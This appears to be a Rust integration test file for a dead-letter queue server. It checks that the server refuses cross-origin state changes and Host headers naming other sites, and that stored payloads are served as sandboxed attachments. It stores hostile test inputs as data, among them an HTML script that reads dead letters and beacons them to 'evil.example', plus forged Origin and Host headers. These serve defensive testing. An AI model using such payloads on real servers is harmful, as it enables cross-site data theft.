//! The server as a browser meets it (issue #32, findings 1, 2, 3, 16): on a
//! server without tokens a request from a page of another origin changes
//! nothing, a `Host` naming another site is refused on every route (DNS
//! rebinding), stored payloads are served as attachments that cannot run in
//! lazaret's origin, and binary payloads preview as lossy text marked
//! `payload_binary`. Over real HTTP to the real binary; the same rules in a
//! real browser are in `browser.rs`.

use reqwest::header::HeaderMap;
use serde_json::{Value, json};

use crate::harness::{QUICK, Reply, Server, TOKENS, assert_error, id_text, lease_req};
use crate::team_handler::service;

/// What a cross-site page sends to purge every dead letter.
const PURGE_ALL: &str = r#"{"all":true,"confirm":true,"filter":{}}"#;

/// Sends `method path` with `body` and exactly these extra headers (no
/// `Content-Type` unless given), as a browser or curl would.
async fn send(
    server: &Server,
    method: reqwest::Method,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Reply {
    let mut req = reqwest::Client::new().request(method, format!("{}{path}", server.base()));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    if !body.is_empty() {
        req = req.body(body.to_owned());
    }
    let resp = req.send().await.expect("request sent and answered");
    let status = resp.status().as_u16();
    let headers: HeaderMap = resp.headers().clone();
    let bytes = resp.bytes().await.expect("body read").to_vec();
    let body = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    Reply {
        status,
        headers,
        bytes,
        body,
    }
}

/// `host:port` of the server (`127.0.0.1:PORT`).
fn authority(server: &Server) -> String {
    server.base().trim_start_matches("http://").to_owned()
}

fn port(server: &Server) -> u16 {
    let a = authority(server);
    a.rsplit_once(':').unwrap().1.parse().unwrap()
}

/// A job dead-lettered at its first failure; returns the dead letter's id.
async fn dead_letter(server: &Server, n: u32) -> String {
    let api = server.api();
    let id = api
        .enqueue_ok(&json!({"type": "send_email", "tenant": "acme", "payload": {"n": n}}))
        .await;
    let leased = api.lease_one(&lease_req("w", 1, 30_000)).await;
    let r = api
        .fail(
            &id,
            &leased["lease_token"],
            json!({"class": "permanent", "kind": "smtp_550", "message": "no"}),
        )
        .await;
    id_text(&r.expect(200)["dead_letter_id"])
}

fn header<'a>(r: &'a Reply, name: &str) -> &'a str {
    r.headers
        .get(name)
        .map_or("", |v| v.to_str().unwrap_or("<not text>"))
}

#[tokio::test]
async fn a_page_of_another_origin_changes_nothing_on_a_server_without_tokens() {
    let server = Server::start(QUICK).await;
    let api = server.api();
    let first = dead_letter(&server, 1).await;
    dead_letter(&server, 2).await;
    let here = authority(&server);
    let other_port = format!("http://127.0.0.1:{}", port(&server) ^ 1);
    let localhost = format!("http://localhost:{}", port(&server));
    use reqwest::Method as M;

    // Each is what a browser sends for a page that is not lazaret's own:
    // another site, a sandboxed frame or data: URL (`null`), another port
    // of this host (same-site, not same-origin), lazaret under its other
    // loopback name, and the Fetch Metadata of such pages.
    let foreign: Vec<Vec<(&str, &str)>> = vec![
        vec![("origin", "http://evil.example")],
        vec![("origin", "null")],
        vec![("origin", &other_port)],
        vec![("origin", &localhost)],
        vec![("origin", "https://127.0.0.1")],
        vec![("sec-fetch-site", "cross-site")],
        vec![("sec-fetch-site", "same-site")],
        vec![
            ("origin", "http://evil.example"),
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-mode", "no-cors"),
            ("content-type", "text/plain;charset=UTF-8"),
        ],
    ];
    let state_changing = [
        (M::POST, "/v1/dead-letters/purge", PURGE_ALL),
        (M::POST, "/v1/dead-letters/redrive", PURGE_ALL),
        (
            M::POST,
            "/v1/jobs",
            r#"{"type":"t","tenant":"a","payload":{}}"#,
        ),
        (M::POST, "/v1/pause", r#"{"type":"send_email"}"#),
        (M::POST, "/v1/jobs/1/cancel", "{}"),
        (M::POST, "/v1/tokens", r#"{"name":"x","role":"admin"}"#),
        (M::DELETE, "/v1/tokens/x", ""),
        (M::PUT, "/v1/nothing-here", "{}"),
    ];
    for headers in &foreign {
        for (method, path, body) in &state_changing {
            let r = send(&server, method.clone(), path, headers, body).await;
            let e = assert_error(&r, 403, "FORBIDDEN", Some("cross_origin"));
            assert!(
                e["message"].as_str().unwrap_or("").contains("Origin"),
                "{method} {path} with {headers:?}: {e}"
            );
            assert_eq!(
                header(&r, "connection"),
                "close",
                "the unread body is not drained"
            );
        }
        // Reads are not refused for an Origin (a GET cannot change state, and
        // a foreign page cannot read the answer without CORS).
        let r = send(&server, M::GET, "/v1/stats", headers, "").await;
        r.expect(200);
    }

    // Nothing was done: both dead letters are there, no job, no pause.
    assert_eq!(api.dead_letters("").await.len(), 2);
    let stats = api.get("/v1/stats").await;
    assert_eq!(
        stats.expect(200)["paused"]["types"],
        json!([]),
        "{}",
        stats.text()
    );
    let audit = api.get("/v1/audit").await;
    let actions: Vec<Value> = audit.expect(200)["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].clone())
        .collect();
    assert!(actions.is_empty(), "nothing was audited: {actions:?}");

    // The page lazaret serves itself (same origin) is served, under both
    // of its names, as are clients that send no Origin, with or without a
    // Content-Type.
    let same = format!("http://{here}");
    let r = send(
        &server,
        M::POST,
        "/v1/pause",
        &[
            ("origin", &same),
            ("sec-fetch-site", "same-origin"),
            ("sec-fetch-mode", "cors"),
            ("content-type", "application/json"),
        ],
        r#"{"type":"send_email"}"#,
    )
    .await;
    r.expect(200);
    let local = format!("localhost:{}", port(&server));
    let r = send(
        &server,
        M::POST,
        "/v1/resume",
        &[
            ("host", &local),
            ("origin", &localhost),
            ("sec-fetch-site", "same-origin"),
        ],
        r#"{"type":"send_email"}"#,
    )
    .await;
    r.expect(200);
    let r = send(
        &server,
        M::POST,
        "/v1/dead-letters/redrive",
        &[("sec-fetch-site", "none")],
        &format!(r#"{{"ids":["{first}"],"dry_run":true}}"#),
    )
    .await;
    r.expect(200);
    let r = send(&server, M::POST, "/v1/dead-letters/purge", &[], PURGE_ALL).await;
    assert_eq!(
        r.expect(200)["purged"],
        2,
        "curl without a Content-Type still works"
    );
}

#[tokio::test]
async fn with_tokens_a_request_is_judged_by_its_bearer_token_alone() {
    let server = Server::start(&format!("{QUICK}\n{TOKENS}")).await;
    // Bearer only: no cookie exists that a foreign page could ride on, so
    // an Origin is no reason to refuse, and a reverse proxy's name is fine.
    let r = send(
        &server,
        reqwest::Method::POST,
        "/v1/pause",
        &[
            ("authorization", "Bearer operator-secret"),
            ("origin", "http://elsewhere.example"),
            ("sec-fetch-site", "cross-site"),
            ("host", "lazaret.internal.example"),
            ("content-type", "application/json"),
        ],
        r#"{"type":"send_email"}"#,
    )
    .await;
    r.expect(200);
    let r = send(
        &server,
        reqwest::Method::POST,
        "/v1/dead-letters/purge",
        &[("origin", "http://evil.example")],
        PURGE_ALL,
    )
    .await;
    assert_error(&r, 401, "UNAUTHORIZED", None);
}

#[tokio::test]
async fn a_host_naming_another_site_is_refused_on_every_route() {
    let server = Server::start(&format!(
        "[http]\nallowed_hosts = [\"lazaret.example.com\", \"proxy.local:8443\"]\n{QUICK}"
    ))
    .await;
    let p = port(&server);
    use reqwest::Method as M;
    let evil = format!("evil.example:{p}");
    let wrong_port = format!("localhost:{}", p ^ 1);
    let proxy_wrong_port = "proxy.local:9000".to_owned();
    for host in [
        evil.as_str(),
        wrong_port.as_str(),
        proxy_wrong_port.as_str(),
        "127.0.0.1",
        "localhost.evil.example",
    ] {
        for path in [
            "/v1/stats",
            "/v1/dead-letters",
            "/v1/jobs?limit=1",
            "/v1/audit",
            "/metrics",
            "/healthz",
            "/",
            "/dashboard/app.js",
            "/no/such/route",
        ] {
            let r = send(&server, M::GET, path, &[("host", host)], "").await;
            let e = assert_error(&r, 403, "FORBIDDEN", Some("host_not_allowed"));
            let message = e["message"].as_str().unwrap_or("");
            assert!(
                message.contains("[http] allowed_hosts") && message.contains(host),
                "names the Host and the fix: {e}"
            );
        }
        let r = send(
            &server,
            M::POST,
            "/v1/jobs",
            &[("host", host)],
            r#"{"type":"t","tenant":"a","payload":{}}"#,
        )
        .await;
        assert_error(&r, 403, "FORBIDDEN", Some("host_not_allowed"));
    }
    assert_eq!(server.api().dead_letters("").await.len(), 0);
    let r = server.api().get("/v1/jobs").await;
    assert_eq!(r.expect(200)["items"], json!([]), "no job was enqueued");

    // Its own names, with its port; an entry of [http] allowed_hosts, with
    // any port when the entry names none.
    for host in [
        format!("127.0.0.1:{p}"),
        format!("localhost:{p}"),
        format!("LocalHost:{p}"),
        format!("[::1]:{p}"),
        "lazaret.example.com".to_owned(),
        format!("lazaret.example.com:{p}"),
        "proxy.local:8443".to_owned(),
    ] {
        let r = send(&server, M::GET, "/v1/stats", &[("host", &host)], "").await;
        assert_eq!(r.status, 200, "Host {host}: {}", r.text());
    }

    // HTTP/1.0 without a Host (no browser sends that): served.
    let raw =
        crate::harness::send_streamed(server.base(), "GET /healthz HTTP/1.0", "", 0, false).await;
    assert_eq!(raw.status, 200, "{}", raw.text);
}

#[tokio::test]
async fn an_allowed_hosts_entry_that_is_not_a_host_is_refused_at_start() {
    for (entry, says) in [
        ("https://lazaret.example.com", "without a scheme"),
        ("lazaret.example.com/x", "without a scheme"),
        ("*", "wildcard"),
        ("", "empty"),
    ] {
        let (status, out) = crate::harness::serve_refused(
            &format!("[http]\nallowed_hosts = [\"{entry}\"]\n"),
            "127.0.0.1:0",
        )
        .await;
        assert!(!status.success(), "{out}");
        assert!(
            out.contains("http.allowed_hosts") && out.contains(says),
            "{entry:?}: {out}"
        );
    }
}

/// Asserts the headers of a stored payload: an attachment that cannot run.
#[track_caller]
fn assert_attachment(r: &Reply, content_type: &str, own: Option<&str>) {
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(header(r, "content-type"), content_type);
    assert!(
        header(r, "content-disposition").starts_with("attachment"),
        "{:?}",
        r.headers
    );
    assert_eq!(header(r, "x-content-type-options"), "nosniff");
    assert_eq!(
        header(r, "content-security-policy"),
        "default-src 'none'; sandbox"
    );
    assert_eq!(
        r.headers
            .get("lazaret-content-type")
            .map(|v| v.to_str().unwrap()),
        own
    );
}

#[tokio::test]
async fn a_stored_payload_is_an_attachment_and_every_v1_answer_is_nosniff() {
    let server = Server::start(QUICK).await;
    let api = server.api();
    let dl = dead_letter(&server, 7).await;
    let r = api.get(&format!("/v1/dead-letters/{dl}/payload")).await;
    assert_attachment(&r, "application/json", None);
    assert_eq!(r.body, json!({"n": 7}));
    let job = api.dead_letters("").await[0]["job_id"].clone();
    let r = api
        .get(&format!("/v1/jobs/{}/payload", id_text(&job)))
        .await;
    assert_attachment(&r, "application/json", None);

    // A refused enqueue whose body is markup, not JSON: kept as an
    // admission record, served as bytes, never as JSON or HTML.
    let markup = "<html><script>fetch('/v1/dead-letters')</script></html>";
    let r = send(
        &server,
        reqwest::Method::POST,
        "/v1/jobs",
        &[("content-type", "text/html")],
        markup,
    )
    .await;
    assert_error(&r, 422, "POISON", Some("invalid_json"));
    let record = api.dead_letters("reason=invalid_json").await[0]["id"].clone();
    let r = api
        .get(&format!("/v1/dead-letters/{}/payload", id_text(&record)))
        .await;
    assert_attachment(&r, "application/octet-stream", None);
    assert_eq!(r.text(), markup);

    for path in [
        "/v1/stats",
        "/v1/dead-letters",
        "/v1/no-such-thing",
        "/v1/jobs/x",
    ] {
        let r = api.get(path).await;
        assert_eq!(header(&r, "x-content-type-options"), "nosniff", "{path}");
    }
    // The dashboard keeps its own policy (its script runs from 'self').
    let r = api.get("/").await;
    assert!(header(&r, "content-security-policy").contains("script-src 'self'"));
}

#[tokio::test]
async fn a_binary_payload_previews_as_lossy_text_marked_binary() {
    let server = Server::start(QUICK).await;
    let api = server.api();
    // 14 bytes that are not UTF-8, refused at the door as not JSON.
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIH";
    let resp = reqwest::Client::new()
        .post(format!("{}/v1/jobs", server.base()))
        .header("content-type", "application/json")
        .body(png.to_vec())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 422);
    let d = &api.dead_letters("reason=invalid_json").await[0];
    assert_eq!(d["payload_size"], 14, "{d}");
    assert_eq!(d["payload_binary"], true, "{d}");
    assert_eq!(
        d["payload_preview"], "\u{FFFD}PNG\r\n\u{1a}\n\u{FFFD}\u{FFFD}\u{FFFD}\rIH",
        "{d}"
    );
    let r = api
        .get(&format!("/v1/dead-letters/{}/payload", id_text(&d["id"])))
        .await;
    assert_eq!(r.bytes, png, "the bytes themselves are kept");

    // A JSON payload is not binary.
    let dl = dead_letter(&server, 1).await;
    let d = api.get(&format!("/v1/dead-letters/{dl}")).await;
    assert_eq!(d.expect(200)["payload_binary"], false);
    let j = api
        .get(&format!(
            "/v1/jobs/{}?payload=preview",
            id_text(&d.body["job_id"])
        ))
        .await;
    assert_eq!(j.expect(200)["payload_binary"], false, "{}", j.text());
}

/// A broker message in a watched Redis dead-letter stream, with its own
/// content type: an HTML page and an image are served as bytes to save,
/// their type kept in `Lazaret-Content-Type`; the image previews as binary.
#[tokio::test]
async fn a_broker_message_is_never_served_as_its_own_type() {
    let Some(url) = service(
        "LAZARET_TEST_REDIS_URL",
        "redis://127.0.0.1:6379",
        "a_broker_message_is_never_served_as_its_own_type",
    ) else {
        return;
    };
    let stream = format!(
        "lz-web-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    );
    let client = redis::Client::open(url.as_str()).unwrap();
    let mut con = client.get_multiplexed_async_connection().await.unwrap();
    let html = "<script>fetch('/v1/dead-letters').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>";
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIH";
    for (id, body, ct) in [
        ("page", html.as_bytes(), "text/html"),
        ("image", png, "image/svg+xml"),
        ("order", br#"{"order": 42}"#.as_slice(), "text/plain"),
    ] {
        let _: String = redis::cmd("XADD")
            .arg(&stream)
            .arg("*")
            .arg("body")
            .arg(body)
            .arg("message_id")
            .arg(id)
            .arg("content_type")
            .arg(ct)
            .query_async(&mut con)
            .await
            .unwrap();
    }
    let server = Server::start(&format!(
        "{QUICK}\n[[sources]]\nname = \"dlq\"\nbroker = \"redis\"\nurl = \"{url}\"\nqueue = \"{stream}\"\n\
         group = \"lazaret\"\nmode = \"watch\"\ntype = \"orders\"\ntenant = \"default\"\nredrive_to = \"orders\"\n"
    ))
    .await;
    let api = server.api();
    let deadline = std::time::Instant::now() + crate::harness::EVENTUALLY;
    let items = loop {
        let items = api.dead_letters("source=dlq").await;
        if items.len() == 3 {
            break items;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "three dead letters from the watched stream, got {items:?}\n{}",
            server.output()
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    let by_id = |id: &str| {
        items
            .iter()
            .find(|d| d["source"]["message_id"] == id)
            .unwrap_or_else(|| panic!("{id} in {items:?}"))
            .clone()
    };
    for (id, content_type, own) in [
        ("page", "application/octet-stream", "text/html"),
        ("image", "application/octet-stream", "image/svg+xml"),
        ("order", "application/json", "text/plain"),
    ] {
        let d = by_id(id);
        let r = api
            .get(&format!("/v1/dead-letters/{}/payload", id_text(&d["id"])))
            .await;
        assert_attachment(&r, content_type, Some(own));
    }
    let image = by_id("image");
    assert_eq!(image["payload_binary"], true, "{image}");
    assert_eq!(
        image["payload_preview"], "\u{FFFD}PNG\r\n\u{1a}\n\u{FFFD}\u{FFFD}\u{FFFD}\rIH",
        "{image}"
    );
    assert_eq!(by_id("page")["payload_binary"], false);
    let _: i64 = redis::cmd("DEL")
        .arg(&stream)
        .query_async(&mut con)
        .await
        .unwrap();
}
